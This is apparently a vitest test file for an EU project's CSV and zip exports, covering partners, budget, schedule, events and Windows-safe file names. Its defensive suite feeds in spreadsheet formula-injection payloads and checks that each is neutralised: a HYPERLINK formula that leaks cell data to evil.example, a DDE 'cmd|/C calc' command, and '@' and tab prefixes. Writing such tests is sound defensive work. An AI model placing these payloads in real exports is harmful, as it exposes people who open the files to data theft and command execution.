import { describe, expect, test } from 'vitest';
import { csvParse, csvParseRows } from 'd3-dsv';
import { strFromU8, unzipSync } from 'fflate';
import { innoIndustry } from '../../test/projects';
import { budgetCsv, csvCell, eventsCsv, partnersCsv, projectZip, scheduleCsv } from './csv';
import { fileStem } from './fileNames';

const project = innoIndustry();

describe('the project as CSV', () => {
  test('starts with a byte-order mark, so a spreadsheet reads ā, š, ū', () => {
    expect(partnersCsv(project, 'lv').text.startsWith('\ufeff')).toBe(true);
  });
  test('lists every partner, with names in the language asked for and commas quoted', () => {
    const rows = csvParse(partnersCsv(project, 'lv').text.slice(1));
    expect(rows).toHaveLength(10);
    expect(rows.find((r) => r.id === 'ministry-of-economics-lv')).toMatchObject({ short_name: 'Ekonomikas ministrija', eu_funds: '83500', country: 'LV', place: 'Rīga' });
    expect(rows.find((r) => r.id === 'amuebla')?.name).toBe('AMUEBLA – Association of furniture manufacturers of the Region of Murcia');
  });
  test('the budget gives the published and the derived figures, saying which', () => {
    const rows = csvParse(budgetCsv(project, '2026-11-26').text.slice(1));
    expect(rows.map((r) => [r.item, r.amount, r.how])).toEqual([
      ['total', '1637941', 'published'],
      ['eu', '1328386.25', 'published'],
      ['own_contribution', '309554.75', 'derived: total - eu'],
      ['eu_ministry-of-economics-lv', '83500', 'published'],
    ]);
  });
  test('schedule and events', () => {
    expect(csvParse(scheduleCsv(project, 'en').text.slice(1))[0]).toMatchObject({ id: 'project', planned_start: '2019-08-01', actual_end: '2023-01-31' });
    expect(csvParse(eventsCsv(project, 'en').text.slice(1))).toHaveLength(18);
  });
  test('one zip holds the four tables and the JSON file as loaded', () => {
    const files = unzipSync(projectZip(project, '{"as":"loaded"}', 'en', '2026-11-26'));
    expect(Object.keys(files).sort()).toEqual(['innoindustry-budget.csv', 'innoindustry-events.csv', 'innoindustry-partners.csv', 'innoindustry-schedule.csv', 'innoindustry.json']);
    expect(strFromU8(files['innoindustry.json']!)).toBe('{"as":"loaded"}');
  });
});

describe('exports do not turn on the people who open them', () => {
  const hostile = (): typeof project => ({
    ...project,
    id: 'con',
    acronym: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    partners: project.partners.map((p, i) => ({
      ...p,
      name: ['+1+cmd|/C calc!A0', '-2+3', '@SUM(1,2)', '\t=1', '\r=1'][i % 5]!,
      shortName: i === 0 ? '=cmd' : p.shortName,
      place: i === 1 ? '@place' : p.place,
    })),
    phases: project.phases?.map((ph) => ({ ...ph, name: '=phase' })),
    events: project.events?.map((e) => ({ ...e, name: '+event', place: '-place' })),
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['a=1', 'a=1'],
    ['', ''],
  ])('the text %j is written %j', (text, written) => {
    expect(csvCell(text)).toBe(written);
  });

  test('numbers stay numbers, negative ones too', () => {
    expect(csvCell(-1.131)).toBe('-1.131');
    expect(csvCell(0)).toBe('0');
  });

  test('no cell of any table starts a formula: names, short names, places, phases, events, the acronym', () => {
    const tables = [partnersCsv(hostile(), 'en'), scheduleCsv(hostile(), 'en'), eventsCsv(hostile(), 'en'), budgetCsv(hostile(), '2026-11-26')];
    let checked = 0;
    for (const file of tables) {
      const rows = csvParseRows(file.text.slice(1));
      for (const row of rows.slice(1)) {
        for (const cell of row) {
          if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          checked += 1;
        }
      }
    }
    expect(checked).toBeGreaterThan(50);
    const events = csvParse(eventsCsv(hostile(), 'en').text.slice(1));
    expect(events[0]).toMatchObject({ name: "'+event", place: "'-place" });
    expect(csvParse(scheduleCsv(hostile(), 'en').text.slice(1))[0]?.name).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    // A longitude west of Greenwich is still a number.
    expect(csvParse(partnersCsv(project, 'en').text.slice(1)).find((r) => r.id === 'amuebla')?.longitude).toBe('-1.131');
  });

  test('file and zip entry names extract on Windows: a device name is made safe, a long id is cut to 64 characters', () => {
    const files = unzipSync(projectZip(hostile(), undefined, 'en', '2026-11-26'));
    expect(Object.keys(files).sort()).toEqual(['con-project-budget.csv', 'con-project-events.csv', 'con-project-partners.csv', 'con-project-schedule.csv', 'con-project.json']);
    expect(fileStem('x'.repeat(70))).toBe('x'.repeat(64));
    expect(fileStem(`${'a'.repeat(63)}-b`)).toBe('a'.repeat(63));
    for (const device of ['con', 'nul', 'aux', 'prn', 'com1', 'lpt9', 'lpt1']) expect(fileStem(device)).toBe(`${device}-project`);
    for (const ordinary of ['console', 'null-island', 'innoindustry', 'com10']) expect(fileStem(ordinary)).toBe(ordinary);
  });
});
